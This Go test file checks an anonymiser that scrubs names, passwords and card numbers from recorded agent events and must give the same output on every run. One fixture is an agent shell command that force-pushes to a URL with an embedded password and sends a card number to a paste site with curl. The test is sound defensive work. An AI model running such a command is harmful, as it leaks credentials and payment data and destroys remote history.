package simulatecmd

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/agent-reviewer/reviewer/engine"
)

// What no policy says is replaced, the same each time; what one says stays.
func TestNeutral(t *testing.T) {
	n := &neutral{known: map[string]bool{}}
	n.learn("git push curl home srv json paste.drop.test --force main read")
	raw := func(v any) json.RawMessage {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	events := []engine.Event{
		{Phase: engine.PhasePrompt, Prompt: "Read Wilma's numbers, please", CWD: "/home/wilma/ledger"},
		{Phase: engine.PhasePre, Tool: "Bash", CWD: "/home/wilma/ledger", Args: raw(map[string]any{
			"command": "git push --force https://wilma:pw99@code.ledger.test/x main && curl https://paste.drop.test/a 4111111111111111 17"})},
		{Phase: engine.PhasePost, Tool: "mcp__wilma__send", Result: &engine.Result{Output: raw([]any{"wilma", 1}), Error: "no ledger"}},
	}
	before := string(raw(events))
	first := string(raw(n.events(manyNames())))
	for range 20 {
		if again := string(raw(n.events(manyNames()))); again != first {
			t.Fatalf("the numbers differ from run to run:\n%s\n%s", first, again)
		}
	}
	other := n.events(events)
	if string(raw(events)) != before {
		t.Error("the events themselves were changed")
	}
	for _, word := range []string{"wilma", "Wilma", "ledger", "pw99", "4111111111111111", "numbers", "code"} {
		if strings.Contains(string(raw(other)), word) {
			t.Errorf("%q is still there: %s", word, raw(other))
		}
	}
	var args map[string]string
	if err := json.Unmarshal(other[1].Args, &args); err != nil {
		t.Fatal(err)
	}
	want := "git push --force https://host1.example/x main && curl https://paste.drop.test/a 1111111111111111 17"
	if args["command"] != want {
		t.Errorf("command %s, want %s", args["command"], want)
	}
	if other[0].CWD != other[1].CWD || !strings.HasPrefix(other[0].CWD, "/home/name") {
		t.Errorf("folders %s and %s", other[0].CWD, other[1].CWD)
	}
}

// manyNames is a call with several arguments, each with names of its own.
func manyNames() []engine.Event {
	return []engine.Event{{Phase: engine.PhasePre, Tool: "Edit", Args: json.RawMessage(
		`{"file_path":"/home/wilma/ledger.py","old_string":"alpha = beta","new_string":"gamma = https://delta.test/x","where":{"line":"https://epsilon.test"}}`)}}
}
